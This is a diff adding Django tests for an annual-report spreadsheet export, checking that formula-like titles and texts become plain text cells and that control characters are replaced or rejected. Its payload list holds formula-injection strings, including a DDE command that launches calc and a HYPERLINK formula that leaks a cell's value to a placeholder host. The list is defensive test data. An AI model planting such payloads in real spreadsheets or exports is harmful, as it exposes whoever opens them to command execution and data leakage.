@@ -9,10 +9,11 @@ import pytest
 from django.urls import reverse
 from openpyxl import load_workbook
 
+from alfadmin.kernel.spreadsheets import REPLACEMENT
 from alfadmin.models import Region, User
 from evaluations.tests.factories import make_round
 from guns import services
-from guns.models import AnnualReport, FollowUpEntry, GunsSettings
+from guns.models import AnnualReport, Decision, FollowUpEntry, GunsSettings
 from guns.selectors import annual_report_data
 from testsupport.pages import login_redirect
 
@@ -180,3 +181,47 @@ def test_query_counts_are_constant(year_2025, login, role_users, meeting_with, d
         assert client.get(reverse("guns:annual_report"), {"year": 2025}).status_code == 200
     with django_assert_max_num_queries(len(before_xlsx.captured_queries)):
         assert client.get(reverse("guns:annual_report_xlsx", args=[2025])).status_code == 200
+
+
+PAYLOADS = ['=HYPERLINK("http://x?"&A2,"Click")', "=cmd|' /C calc'!A0", "+1", "-2+3", "@SUM(A1)", "\tleading tab", "\rleading CR"]
+
+
+def _sheets(response) -> dict:
+    assert response.status_code == 200
+    return {sheet.title: list(sheet.iter_rows(min_row=2)) for sheet in load_workbook(BytesIO(response.content)).worksheets}
+
+
+@pytest.mark.parametrize("payload", PAYLOADS)
+def test_formula_like_titles_and_texts_are_text_cells_in_the_workbook(year_2025, login, payload):
+    Decision.objects.filter(pk=year_2025["statement"].pk).update(title=payload)
+    FollowUpEntry.objects.filter(region__code="STH").update(text=payload)
+    sheets = _sheets(login("viewer").get(reverse("guns:annual_report_xlsx", args=[2025]), HTTP_ACCEPT_LANGUAGE="en"))
+    shown = payload.replace("\r", "\n")  # XML reads a carriage return as a line feed
+    title = next(row[2] for row in sheets["Decisions"] if row[2].value == shown)
+    text = next(row[3] for row in sheets["Follow-ups"] if row[1].value == "STH")
+    assert (title.data_type, text.value, text.data_type) == ("s", shown, "s")
+    assert all(cell.data_type != "f" for rows in sheets.values() for row in rows for cell in row)
+
+
+def test_a_stored_control_character_is_replaced_in_the_workbook(year_2025, login):
+    Decision.objects.filter(pk=year_2025["statement"].pk).update(title="Yttrande\u000butkast")
+    sheets = _sheets(login("viewer").get(reverse("guns:annual_report_xlsx", args=[2025]), HTTP_ACCEPT_LANGUAGE="en"))
+    assert any(row[2].value == f"Yttrande{REPLACEMENT}utkast" for row in sheets["Decisions"])
+
+
+def test_the_api_refuses_a_control_character_in_a_decision_naming_the_field(registry_demo, api_client, role_users):
+    api_client.force_authenticate(role_users["guns"])
+    response = api_client.post(
+        "/api/v1/guns/decisions/", {"title": "Ny\u000bsatsning", "kind": "other"}, format="json", HTTP_ACCEPT_LANGUAGE="en"
+    )
+    assert response.status_code == 400
+    assert response.json() == {"title": ["Title contains a control character (U+000B): remove it (it usually comes from pasting)."]}
+
+
+def test_the_decision_page_refuses_a_control_character_naming_the_field(registry_demo, login):
+    response = login("guns").post(
+        reverse("guns:decision_create"), {"kind": "other", "title": "Ny", "text": "Bak\u000bgrund"}, HTTP_ACCEPT_LANGUAGE="en"
+    )
+    assert response.status_code == 400
+    assert response.context["form"].errors["text"] == ["Text contains a control character (U+000B): remove it (it usually comes from pasting)."]
+    assert not Decision.objects.filter(title="Ny").exists()
